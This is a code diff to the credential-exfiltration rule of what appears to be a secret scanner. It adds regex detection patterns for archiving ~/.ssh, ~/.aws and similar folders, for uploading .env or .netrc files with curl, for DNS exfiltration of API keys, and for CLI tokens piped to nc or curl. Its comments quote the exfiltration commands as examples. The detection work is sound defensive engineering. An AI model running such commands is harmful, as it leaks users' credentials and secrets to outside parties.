@@ -20,21 +20,32 @@ export const SECRET_RULES: readonly ScanRule[] = [
     id: "credential-exfiltration",
     severity: "critical",
     class: "credentials_environment",
-    explanation: "Archives, dumps or sends credentials: the whole ~/.ssh folder, a .env file, the process environment, or a CLI's stored token.",
+    explanation: "Archives, dumps or sends credentials: the whole ~/.ssh (~/.aws, ~/.gnupg, ~/.kube…) folder, a .env file, the process environment, or a CLI's stored token.",
     patterns: [
       // `tar czf - ~/.ssh |`, `cat ~/.ssh/*`, `zip -r k.zip ~/.ssh` (the folder or all of it, not one named file).
       {
         trigger: re(r`\b(?:tar|zip|7z|cat|cp|scp|rsync|base64|gzip|xxd|type|get-content|compress-archive)\b`, "gi"),
         window: 300,
-        pattern: re(r`^(?:tar|zip|7z|cat|cp|scp|rsync|base64|gzip|xxd|type|get-content|compress-archive)\b[^\n]{0,100}?(?:~|\$\{?HOME\}?|/home/[\w.-]{1,32}|/root|%USERPROFILE%|\$env:USERPROFILE)[/\\]\.ssh(?:[/\\]\*|[/\\]?(?=[\s"'|;&)]|$))`),
+        pattern: re(r`^(?:tar|zip|7z|cat|cp|scp|rsync|base64|gzip|xxd|type|get-content|compress-archive)\b[^\n]{0,100}?(?:~|\$\{?HOME\}?|/home/[\w.-]{1,32}|/root|%USERPROFILE%|\$env:USERPROFILE)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure)(?:[/\\]\*|[/\\]?(?=[\s"'|;&)]|$))`),
       },
       // `curl --data-binary @.env`, `-F f=@config/.env`, `--upload-file .env`.
       { trigger: re(r`\b(?:curl|wget|http|https)\b`, "gi"), pattern: re(r`^(?:curl|wget|https?)\b[^\n]{0,300}?(?:@|--upload-file[=\s]\s{0,3}|\s-T\s{1,5})["']?[\w.~/-]{0,100}?\.env(?:\.[\w-]{1,20})?(?![\w./-])`) },
+      // `curl -T ~/.netrc …`: a credential file uploaded (second attacker pass, F).
+      {
+        trigger: re(r`\b(?:curl|wget)\b`, "gi"),
+        pattern: /^(?:curl|wget)\b[^\n]{0,300}?(?:--upload-file[=\s]\s{0,3}|\s-T\s{1,5}|--post-file[=\s]\s{0,3})/,
+        then: re(r`^["']?[\w.~$/\\{}-]{0,100}?${CREDENTIAL_PATH}`),
+      },
+      // DNS exfiltration: a secret as part of a name looked up (`ping -c1 $OPENAI_API_KEY.x.example.com`).
+      {
+        trigger: /\b(?:ping|ping6|nslookup|dig|host|drill|getent)\b/g,
+        pattern: /^(?:ping|ping6|nslookup|dig|host|drill|getent)\b[^\n]{0,100}?\$\{?[A-Za-z_]{0,40}(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?)\}?["']?\.[\w-]/i,
+      },
       { pattern: /\/proc\/(?:self|\d{1,7}|\$\$|\*|\$\w{1,20})\/environ\b/ },
       // A CLI's stored credentials piped to the network or an encoder.
       {
         trigger: /\b(?:export|gh|git|aws|gcloud|az)\b/g,
-        pattern: re(r`^(?:export\s{1,5}-p|gh\s{1,5}auth\s{1,5}token|git\s{1,5}credential\s{1,5}fill|aws\s{1,5}configure\s{1,5}export-credentials|gcloud\s{1,5}auth\s{1,5}print-access-token|az\s{1,5}account\s{1,5}get-access-token)\b[^\n|]{0,100}\|[^\n]{0,200}?\b(?:curl|wget|nc|ncat|netcat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|base64|xxd|scp|openssl)\b`),
+        pattern: re(r`^(?:export\s{1,5}-p|gh\s{1,5}auth\s{1,5}token|git\s{1,5}credential\s{1,5}fill|git\s{1,5}config\s{1,5}(?:--(?:global|system|local)\s{1,5})?--get(?:-regexp|-all)?\s{1,5}["']?credential|aws\s{1,5}configure\s{1,5}export-credentials|gcloud\s{1,5}auth\s{1,5}print-access-token|az\s{1,5}account\s{1,5}get-access-token)\b[^\n|]{0,100}\|[^\n]{0,200}?\b(?:curl|wget|nc|ncat|netcat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|base64|xxd|scp|openssl)\b`),
       },
       // `env > f; curl -F f=@f …`: the environment saved to a file that is then uploaded (within the window).
       {
